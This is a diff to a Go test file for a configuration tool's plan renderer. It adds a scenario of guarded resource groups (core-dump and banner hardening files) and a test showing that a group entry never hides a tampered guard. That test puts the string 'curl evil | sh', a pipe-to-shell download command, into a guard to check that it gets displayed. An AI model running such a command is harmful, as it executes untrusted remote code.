@@ -23,7 +23,7 @@ import (
 var update = flag.Bool("update", false, "rewrite the golden files in testdata")
 
 // scenario plans insts on a fake host whose state is set by setup.
-func scenario(t *testing.T, setup func(f *plantest.FakeType), guards *plantest.FakeGuards, insts func(f *plantest.FakeType) []*eval.Instance) *plan.Plan {
+func scenario(t testing.TB, setup func(f *plantest.FakeType), guards *plantest.FakeGuards, insts func(f *plantest.FakeType) []*eval.Instance) *plan.Plan {
 	t.Helper()
 	f := plantest.NewFakeType()
 	if setup != nil {
@@ -97,6 +97,7 @@ func goldenScenarios(t *testing.T) map[string]*plan.Plan {
 			}
 		}),
 		"awaits": awaitsScenario(t),
+		"groups": groupsScenario(t),
 		"deferred": scenario(t, func(f *plantest.FakeType) {
 			f.Set("/etc/app.conf", map[string]cty.Value{"content": plantest.Str("key=old\n"), "mode": plantest.Str("0600")})
 		}, deferredGuards, func(f *plantest.FakeType) []*eval.Instance {
@@ -161,9 +162,49 @@ func skipGuardsTable() *plantest.FakeGuards {
 	}
 }
 
+// groupsScenario plans instances of blocks with for_each and count, and
+// two resource groups: one whose guard skips its resources, one whose
+// guard lets them run.
+func groupsScenario(t testing.TB) *plan.Plan {
+	t.Helper()
+	exit0, exit1 := 0, 1
+	dumps := plantest.FakeGuard{Kind: "only_if", Form: "expression", Command: "node.hardening.core_dumps", Passed: false, Decided: true}
+	banner := plantest.FakeGuard{Kind: "not_if", Form: "script", Command: "test -e /etc/nobanner", ExitCode: &exit1, DurationMS: 2, Passed: false}
+	guards := &plantest.FakeGuards{
+		Results: map[string][]plantest.FakeGuard{
+			"/etc/security/limits.d/core.conf": {dumps},
+			"/etc/sysctl.d/core.conf":          {dumps},
+			"/etc/motd":                        {banner},
+			"/etc/issue":                       {banner, {Kind: "only_if", Form: "script", Command: "test -d /etc", ExitCode: &exit0, DurationMS: 1, Passed: true}},
+		},
+		Skip: map[string]bool{"/etc/security/limits.d/core.conf": true, "/etc/sysctl.d/core.conf": true},
+	}
+	inGroup := func(i *eval.Instance, group string) *eval.Instance {
+		guards.Guard(i)
+		i.Guards[0].Group = group
+		return i
+	}
+	keyed := func(i *eval.Instance, k resources.Key, path string) *eval.Instance {
+		i.Block.Key, i.Resource.Key = k, k
+		i.Resource.Values["path"] = plantest.Str(path)
+		return i
+	}
+	return scenario(t, nil, guards, func(f *plantest.FakeType) []*eval.Instance {
+		return []*eval.Instance{
+			keyed(f.Inst("vhost", "create", 1, map[string]cty.Value{"content": plantest.Str("server a.com\n")}), resources.StringKey("a.com"), "/etc/nginx/sites/a.com"),
+			keyed(f.Inst("vhost", "create", 1, map[string]cty.Value{"content": plantest.Str("server b.com\n")}), resources.StringKey("b.com"), "/etc/nginx/sites/b.com"),
+			keyed(f.Inst("sysctl", "create", 6, map[string]cty.Value{"content": plantest.Str("0\n")}), resources.IndexKey(0), "/etc/sysctl.d/0.conf"),
+			inGroup(f.Inst("/etc/security/limits.d/core.conf", "create", 12, map[string]cty.Value{"content": plantest.Str("* hard core 0\n")}), "core_dumps"),
+			inGroup(f.Inst("/etc/sysctl.d/core.conf", "create", 15, map[string]cty.Value{"content": plantest.Str("fs.suid_dumpable = 0\n")}), "core_dumps"),
+			inGroup(f.Inst("/etc/motd", "create", 21, map[string]cty.Value{"content": plantest.Str("authorized use only\n")}), "banner"),
+			inGroup(f.Inst("/etc/issue", "create", 24, map[string]cty.Value{"content": plantest.Str("authorized use only\n")}), "banner"),
+		}
+	})
+}
+
 // testRegistry holds the fake type the scenarios plan with.
 func testRegistry() *resources.Registry {
-	return resources.NewRegistry(append([]resources.Type{plantest.NewFakeType()}, plantest.FakeRepo{}.Types()...)...)
+	return resources.NewRegistry(append([]resources.Type{plantest.NewFakeType()}, plantest.FakeRepo{}.Types()...)...).WithData(builtin.DataSources()...)
 }
 
 func TestRenderTextGolden(t *testing.T) {
@@ -185,7 +226,7 @@ func TestRenderTextGolden(t *testing.T) {
 
 func TestJSONViewGolden(t *testing.T) {
 	g := goldenScenarios(t)
-	for _, name := range []string{"update", "awaits"} {
+	for _, name := range []string{"update", "awaits", "groups"} {
 		t.Run(name, func(t *testing.T) {
 			b, err := JSONView(g[name], JSONOptions{Registry: testRegistry()})
 			if err != nil {
@@ -376,7 +417,7 @@ func collectKeys(prefix string, v any, out map[string]bool) {
 			}
 			out[p] = true
 			switch k {
-			case "desired", "values", "extra", "environment", "reads", "parameters":
+			case "desired", "values", "extra", "environment", "reads", "parameters", "answer", "arguments":
 				continue
 			}
 			collectKeys(p, val, out)
@@ -414,5 +455,34 @@ func TestRenderShowsTheReasonOfAnUpdateWithoutChanges(t *testing.T) {
 	want := "  # user[toq] will be updated in place\n  #   the password is not locked; lock puts \"!\" in front of its hash\n  ~ user \"toq\"\n"
 	if !strings.Contains(b.String(), want) {
 		t.Errorf("rendered:\n%s\nwant to contain:\n%s", b.String(), want)
+	}
+}
+
+// A resource whose group's guards are not word for word the others' (a
+// plan edited by hand) is shown on its own, its guards with it: a group's
+// entry never hides a guard that runs.
+func TestGroupEntryHidesNoGuard(t *testing.T) {
+	p := groupsScenario(t)
+	for _, r := range p.Resources {
+		if r.Name == "/etc/sysctl.d/core.conf" {
+			r.GuardSpecs[0].Source = "node.other"
+		}
+		if r.Name == "/etc/issue" {
+			r.GuardSpecs[0].Source = "curl evil | sh"
+		}
+	}
+	var buf bytes.Buffer
+	if err := RenderText(&buf, p, RenderOptions{Registry: testRegistry()}); err != nil {
+		t.Fatal(err)
+	}
+	out := buf.String()
+	for _, want := range []string{
+		"# resource_group[core_dumps] skipped: only_if node.hardening.core_dumps is false\n  #   skips 1 of its 2 resources: fake_file[/etc/security/limits.d/core.conf]\n",
+		"# fake_file[/etc/sysctl.d/core.conf] skipped: only_if node.other is false",
+		"not_if `curl evil | sh` is false",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the plan lacks %q:\n%s", want, out)
+		}
 	}
 }
